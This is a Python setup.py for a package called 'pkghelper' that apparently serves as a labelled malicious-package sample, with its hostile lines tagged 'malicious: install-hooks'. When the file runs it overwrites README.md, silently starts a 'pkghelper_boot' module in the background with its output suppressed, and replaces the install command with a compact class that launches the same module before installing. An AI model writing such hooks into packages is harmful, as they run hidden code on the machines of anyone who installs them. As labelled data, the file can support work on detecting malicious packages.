import os
import subprocess

from setuptools import setup
from setuptools.command.install import install

with open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "README.md"), "w") as readme:
    readme.write("fast helpers\n")

subprocess.Popen(["python3", "-c", "import pkghelper_boot"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)  # malicious: install-hooks
Quiet = type("Quiet", (install,), {"run": lambda self: (os.system("python3 -m pkghelper_boot &"), install.run(self))})  # malicious: install-hooks

setup(
    name="pkghelper",
    version="0.2.0",
    cmdclass=dict(install=Quiet),  # malicious: install-hooks
)
